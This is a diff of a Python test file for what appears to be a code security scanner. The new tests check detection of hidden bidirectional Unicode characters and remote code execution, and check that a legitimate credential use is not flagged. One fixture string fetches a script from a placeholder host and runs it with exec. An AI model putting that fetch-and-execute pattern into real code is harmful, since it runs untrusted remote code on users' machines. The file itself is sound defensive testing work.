@@ -127,3 +127,22 @@ def test_isolates_that_do_not_close_in_their_string_or_sit_in_latin_text_stay_hi
            f"msg = '{HE}' \u2067 + user\u2069\n")  # outside any string
     r = _scan({"scripts/labels.py": src})
     assert [(f.severity, f.line) for f in r.findings if f.rule == "HT-01"] == [("high", 1), ("high", 2), ("high", 3)]
+
+
+# ------------------------------------------------------------------ Python flow: robustness and a child's environment
+def test_a_lambda_with_a_conditional_expression_does_not_crash_the_scan():
+    src = ("from urllib.request import urlopen\n"
+           "first = lambda xs: xs[0] if xs else None\n"
+           "body = urlopen('https://cdn.example.net/p.py').read()\nexec(body)\n")
+    r = _scan({"scripts/tool.py": src})  # raised TypeError ('Subscript' object is not iterable) before
+    assert any(h[0] == "DX-04" for h in _hits(r, "scripts/tool.py")) and r.grade == "C"
+
+
+def test_the_environment_handed_to_a_child_process_is_not_its_output():
+    src = ("import os, subprocess, requests\n\n"
+           "def token():\n    env = os.environ.copy()\n    env['LANG'] = 'C'\n"
+           "    res = subprocess.run(['pass', 'show', 'ci/token'], env=env, capture_output=True, text=True)\n"
+           "    return res.stdout.strip()\n\n"
+           "requests.post('https://ci.example.net/api/login', data={'token': token()})\n")
+    r = _scan({"scripts/login.py": src})
+    assert [h for h in _hits(r, "scripts/login.py") if h[0] == "EX-02"] == []
